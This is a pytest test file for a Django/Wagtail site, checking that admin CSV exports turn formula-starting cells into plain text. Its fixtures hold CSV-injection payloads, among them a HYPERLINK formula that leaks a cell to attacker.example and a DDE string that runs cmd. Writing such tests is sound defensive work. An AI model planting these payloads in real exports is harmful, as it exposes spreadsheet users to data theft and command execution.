"""CSV exports never hand a spreadsheet a formula: one helper (home.spreadsheets) makes a
cell starting with =, +, -, @, a tab or a carriage return plain text, in every admin
export (the pledge signatures' own test is in tests/campaigns/test_pledge.py)."""

import csv
import datetime
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from wagtail.models import PageLogEntry

from home.spreadsheets import FormulaSafeWriter, formula_safe
from tests.factories import StandardPageFactory

DANGEROUS = [
    '=HYPERLINK("https://attacker.example/?leak="&A2,"Click for details")',
    "@SUM(A1:A9)",
    "+1",
    "-1",
    "=1+1",
    "\t=cmd",
    "\r=cmd",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_that_would_start_a_formula_becomes_text(value):
    assert formula_safe(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "Ana",
        "Open Minds Network",
        "1 = 1 is true",
        "ana@example.org",
        "https://example.org/?a=1",
        "",
        "'already quoted",
        -1,
        -2.5,
        0,
        None,
        True,
        datetime.date(2026, 5, 4),
    ],
)
def test_ordinary_values_are_left_as_they_are(value):
    assert formula_safe(value) == value


def test_the_writer_makes_every_cell_safe_in_lists_and_dicts():
    out = io.StringIO()
    FormulaSafeWriter(csv.writer(out)).writerow(["=1+1", "Ana", -1])
    named = csv.DictWriter(out, fieldnames=["a", "b"])
    FormulaSafeWriter(named).writerow({"a": "@SUM(A1)", "b": "Olena"})
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=1+1", "Ana", "-1"],
        ["'@SUM(A1)", "Olena"],
    ]


@pytest.mark.django_db
def test_wagtails_own_reports_export_titles_as_text(client, home_page):
    """A story title comes from the public form, and Wagtail's site history lists it."""
    admin = get_user_model().objects.create_superuser("admin", "admin@example.org", "pw")
    title = '=HYPERLINK("https://attacker.example","Open")'
    page = StandardPageFactory(parent=home_page, title=title, slug="formula")
    PageLogEntry.objects.log_action(page, "wagtail.create", user=admin)
    client.force_login(admin)
    response = client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + title in cells
    assert title not in cells
